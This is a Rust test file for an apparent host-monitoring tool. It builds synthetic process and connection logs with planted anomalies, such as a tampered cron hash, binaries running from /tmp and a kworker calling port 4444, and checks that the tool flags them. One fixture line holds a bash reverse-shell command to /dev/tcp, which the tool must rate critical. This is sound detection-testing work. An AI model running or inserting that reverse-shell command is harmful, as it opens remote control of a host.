//! A quiet host with oddities planted in it, as tables of three makes.

use super::*;

/// The same host in two tables of ours.
pub(super) struct Tables {
    pub(super) processes: String,
    pub(super) network: String,
}

fn digest(of: char) -> String {
    of.to_string().repeat(64)
}

/// `(name, path, command line, digest, user, how often)`: the first ones are ordinary.
type Planted = (&'static str, &'static str, &'static str, char, &'static str, u32);

const PLANTED: &[Planted] = &[
    ("sshd", "/usr/sbin/sshd", "/usr/sbin/sshd -D", 'a', "root", 10),
    (
        "nginx",
        "/usr/sbin/nginx",
        "nginx: worker process",
        'b',
        "www-data",
        10,
    ),
    ("cron", "/usr/sbin/cron", "/usr/sbin/cron -f", 'c', "root", 10),
    // The same path with another content, once.
    ("cron", "/usr/sbin/cron", "/usr/sbin/cron -f", 'd', "root", 1),
    // An installed name that also runs from a temporary folder, with another content.
    ("nginx", "/tmp/.x/nginx", "nginx: worker process", 'e', "ana", 2),
    // The same name in another place with another content.
    ("tool", "/usr/bin/tool", "tool", 'f', "ana", 5),
    ("tool", "/opt/tool/bin/tool", "tool", '0', "ana", 5),
    // Other arguments, nothing else.
    ("python3", "/usr/bin/python3", "python3 /srv/a.py", '1', "ana", 5),
    ("python3", "/usr/bin/python3", "python3 /tmp/b.py", '1', "ana", 5),
];

/// Rows in turn, so that no kind comes in one piece.
fn in_turn() -> Vec<(u32, &'static Planted)> {
    let most = PLANTED.iter().map(|planted| planted.5).max().unwrap();
    (0..most)
        .flat_map(|round| {
            (1000..)
                .zip(PLANTED)
                .filter(move |(_, planted)| round < planted.5)
        })
        .collect()
}

fn spanish() -> String {
    let mut table =
        "Timestamp,PID,Nombre,Usuario,Ruta Ejecutable,Línea de Comandos,PPID,CPU%,Mem%,Estado,Hash SHA256,\
                     Conexiones\r\n"
            .to_owned();
    for (pid, (name, path, line, content, user, _)) in in_turn() {
        let connections = "SOCK_STREAM ESTABLISHED: 192.0.2.1:40000 -> 198.51.100.7:443";
        table.push_str(&format!(
            "2026-11-20 21:00:00,{pid},{name},{user},{path},{line},1,0.0,0.1,sleeping,{},{connections}\r\n",
            digest(*content)
        ));
    }
    // A process that could not be read is no variation.
    table.push_str(
        "2026-11-20 21:00:00,9,cron,N/A,,,1,0.0,0.0,zombie,N/A - Archivo no encontrado,Acceso Denegado\r\n",
    );
    table
}

fn english() -> String {
    let mut table = "\u{feff}time;pid;process name;user name;executable;command line;sha-256\n".to_owned();
    for (pid, (name, path, line, content, user, _)) in in_turn() {
        let digest = digest(*content).to_uppercase();
        table.push_str(&format!(
            "2026-11-20T21:00:00Z;{pid};{name};{user};{path};\"{line}\";{digest}\n"
        ));
    }
    table
}

#[track_caller]
fn check_processes(document: &Document) {
    let found = rows(
        document,
        "variations",
        &["severity", "process", "differs", "path", "count"],
    );
    let found: Vec<Vec<&str>> = found
        .iter()
        .map(|row| row.iter().map(String::as_str).collect())
        .collect();
    let expected: &[&[&str]] = &[
        &["high", "cron", "sha256", "/usr/sbin/cron", "1"],
        &["high", "cron", "sha256", "/usr/sbin/cron", "11"],
        &["high", "nginx", "sha256, path", "/tmp/.x/nginx", "2"],
        &["high", "nginx", "sha256, path", "/usr/sbin/nginx", "10"],
        &["low", "tool", "sha256, path", "/opt/tool/bin/tool", "5"],
        &["low", "tool", "sha256, path", "/usr/bin/tool", "5"],
        &["info", "python3", "command_line", "/usr/bin/python3", "5"],
        &["info", "python3", "command_line", "/usr/bin/python3", "5"],
    ];
    let mut tolerant = found.clone();
    if let Some(row) = tolerant.get_mut(1)
        && row[4] == "10"
    {
        // Only the Spanish table has the unread one, which goes with its like.
        row[4] = "11";
    }
    assert_eq!(tolerant, expected);
    assert_eq!(
        rows(
            document,
            "suspicious_paths",
            &["process", "path", "pattern", "user"]
        ),
        [
            ["nginx", "/tmp/.x/nginx", "/tmp/*", "ana"],
            ["python3", "/tmp/b.py", "/tmp/*", "ana"]
        ]
    );
    assert_eq!(
        rows(document, "rare", &["what", "value", "process"]),
        [["sha256", digest('d').as_str(), "cron"]]
    );
    assert_eq!(document.worst, Some(Severity::High));
}

#[test]
fn exactly_what_is_planted_is_found_under_spanish_headers() {
    let document = processes(spanish().as_bytes()).unwrap();
    check_processes(&document);
    let contexts = rows(&document, "variations", &["pid", "user", "connections"]);
    assert_eq!(contexts[2][..2], ["1004", "ana"]);
    assert!(contexts[2][2].ends_with("-> 198.51.100.7:443"), "{contexts:?}");
    let shown = text(&document, Language::Spanish);
    assert!(
        shown.contains("ALTA  cron  Difiere en: SHA-256  la misma ruta, otro contenido  Formas: 2"),
        "{shown}"
    );
}

#[test]
fn exactly_what_is_planted_is_found_under_english_headers() {
    let document = processes(english().as_bytes()).unwrap();
    check_processes(&document);
    assert_eq!(
        document.range.clone().unwrap().start.rfc3339(),
        "2026-11-20T21:00:00.000000Z"
    );
    let shown = text(&document, Language::English);
    assert!(
        shown.contains("HIGH  cron  Differs in: SHA-256  the same path, another content  Ways: 2"),
        "{shown}"
    );
    // A host without the oddities is a quiet one.
    let quiet: String = english()
        .lines()
        .filter(|line| line.starts_with("\u{feff}") || line.contains("sshd"))
        .map(|line| format!("{line}\n"))
        .collect();
    let document = processes(quiet.as_bytes()).unwrap();
    assert_eq!(document.worst, None);
    assert!(
        document
            .sections
            .iter()
            .all(|section| section.table.rows.is_empty())
    );
}

/// As the second seed writes connections.
fn events() -> String {
    let mut table =
        "Timestamp,EventType,PID,ProcessName,ProcessPath,ProcessCmdline,LocalAddress,RemoteAddress,Status,\
                     Protocol,EventDetails\n"
            .to_owned();
    let mut push = |event: &str, process: &str, local: &str, remote: &str, status: &str, kind: &str| {
        table.push_str(&format!(
            "2026-11-20 21:00:10,{event},{process},{local},{remote},{status},{kind},User='ana'\n"
        ));
    };
    let curl = "7,curl,/usr/bin/curl,curl https://example.org/";
    let nginx = "8,nginx,/usr/sbin/nginx,nginx: worker process";
    push(
        "ConnectionOpened",
        nginx,
        "0.0.0.0:443",
        "N/A",
        "LISTEN",
        "SOCK_STREAM",
    );
    push(
        "ConnectionOpened",
        nginx,
        "0.0.0.0:5353",
        "N/A",
        "NONE",
        "SOCK_DGRAM",
    );
    for port in 40_000..40_005 {
        push(
            "ConnectionOpened",
            curl,
            &format!("192.0.2.1:{port}"),
            "198.51.100.7:443",
            "ESTABLISHED",
            "SOCK_STREAM",
        );
        push(
            "ConnectionClosed",
            curl,
            &format!("192.0.2.1:{port}"),
            "198.51.100.7:443",
            "ESTABLISHED",
            "Unknown",
        );
        // Somebody calls the web server.
        push(
            "ConnectionOpened",
            nginx,
            "192.0.2.1:443",
            &format!("203.0.113.9:{port}"),
            "ESTABLISHED",
            "SOCK_STREAM",
        );
    }
    let dropped = "9,kworker,/tmp/.k/kworker,/tmp/.k/kworker";
    push(
        "ConnectionOpened",
        dropped,
        "::1:50000",
        "2001:db8::66:4444",
        "ESTABLISHED",
        "SOCK_STREAM",
    );
    let shell = "10,bash,/usr/bin/bash,bash -i >& /dev/tcp/10.9.8.7/9001 0>&1";
    push(
        "ConnectionOpened",
        shell,
        "192.0.2.1:50001",
        "10.9.8.7:9001",
        "SYN_SENT",
        "SOCK_STREAM",
    );
    let gone = "N/A,PID N/A (Terminado?),Info no disponible,Info no disponible";
    push(
        "ConnectionClosed",
        gone,
        "192.0.2.1:50001",
        "10.9.8.7:9001",
        "SYN_SENT",
        "Unknown",
    );
    table
}

#[test]
fn exactly_what_is_planted_is_found_in_the_events_of_the_second_seed() {
    let document = network(events().as_bytes()).unwrap();
    assert_eq!(summed(&document, "opened"), Value::Integer(14));
    assert_eq!(summed(&document, "closed"), Value::Integer(6));
    assert_eq!(summed(&document, "connections"), Value::Integer(12));
    let pairs = |list, columns: [&str; 2]| rows(&document, list, &columns);
    assert_eq!(
        pairs("top_processes", ["process", "connections"]),
        [["curl", "5"], ["nginx", "5"], ["bash", "1"], ["kworker", "1"]]
    );
    assert_eq!(
        pairs("top_addresses", ["address", "connections"]),
        [
            ["198.51.100.7", "5"],
            ["203.0.113.9", "5"],
            ["10.9.8.7", "1"],
            ["2001:db8::66", "1"]
        ]
    );
    // The called port of what came in is our own.
    assert_eq!(
        pairs("top_ports", ["port", "connections"]),
        [["443", "10"], ["4444", "1"], ["9001", "1"]]
    );
    assert_eq!(
        pairs("scopes", ["scope", "connections"]),
        [["internal", "6"], ["external", "6"]]
    );
    assert_eq!(
        pairs("rare_addresses", ["address", "scope"]),
        [["10.9.8.7", "internal"], ["2001:db8::66", "external"]]
    );
    assert_eq!(
        pairs("rare_endpoints", ["address", "port"]),
        [["10.9.8.7", "9001"], ["2001:db8::66", "4444"]]
    );
    assert_eq!(
        pairs("rare_processes", ["process", "connections"]),
        [["bash", "1"], ["kworker", "1"]]
    );
    assert_eq!(
        rows(
            &document,
            "listening",
            &["protocol", "address", "port", "process"]
        ),
        [
            ["tcp", "0.0.0.0", "443", "nginx"],
            ["udp", "0.0.0.0", "5353", "nginx"]
        ]
    );
    assert_eq!(
        rows(&document, "suspicious_paths", &["process", "path", "pid", "user"]),
        [["kworker", "/tmp/.k/kworker", "9", "ana"]]
    );
    assert_eq!(
        rows(&document, "command_lines", &["severity", "pattern", "process"]),
        [["critical", "shell_socket", "bash"], ["info", "url", "curl"]]
    );
    assert_eq!(document.worst, Some(Severity::Critical));
}

#[test]
fn bytes_count_once_when_a_connection_closes() {
    let tables = tables();
    let document = network(tables.network.as_bytes()).unwrap();
    assert_eq!(summed(&document, "sent_bytes"), Value::Bytes(3_000));
    assert_eq!(
        rows(
            &document,
            "top_bytes",
            &["process", "address", "sent_bytes", "received_bytes"]
        ),
        [["curl", "198.51.100.7", "3000", "60"]]
    );
    assert_eq!(rows(&document, "listening", &["port"]), [["22"]]);
    // Inbound: our port was called, whatever listens.
    assert_eq!(
        rows(&document, "top_ports", &["port", "connections"]),
        [["443", "3"], ["8080", "1"]]
    );
    assert_eq!(
        document.range.clone().unwrap().end.rfc3339(),
        "2026-11-20T21:00:09.000000Z"
    );
}

/// Two tables as we write them.
pub(super) fn tables() -> Tables {
    let mut processes = watched::header(&watched::PROCESSES);
    for (pid, (name, path, line, content, user, _)) in in_turn() {
        processes.push_str(&format!(
            "2026-11-20T21:00:00.000000Z,{pid},{name},{user},{path},{line},{},,0,1\n",
            digest(*content)
        ));
    }
    let mut network = watched::header(&watched::CONNECTIONS);
    network.push_str(
        "2026-11-20T21:00:00.000000Z,opened,1,sshd,/usr/sbin/sshd,sshd,tcp,::,22,,,LISTEN,,,root,,,\n",
    );
    for port in 40_000..40_003 {
        let row = format!("7,curl,/usr/bin/curl,curl,tcp,192.0.2.1,{port},198.51.100.7,443,ESTABLISHED");
        network.push_str(&format!(
            "2026-11-20T21:00:01.000000Z,opened,{row},500,10,ana,outbound,unknown,\n\
             2026-11-20T21:00:09.000000Z,closed,{row},1000,20,ana,outbound,finished,\n"
        ));
    }
    network.push_str(
        "2026-11-20T21:00:02.000000Z,opened,8,nginx,/usr/sbin/nginx,nginx,tcp,192.0.2.1,8080,203.0.113.9,50000,\
         ESTABLISHED,0,0,www-data,inbound,unknown,\n",
    );
    Tables { processes, network }
}
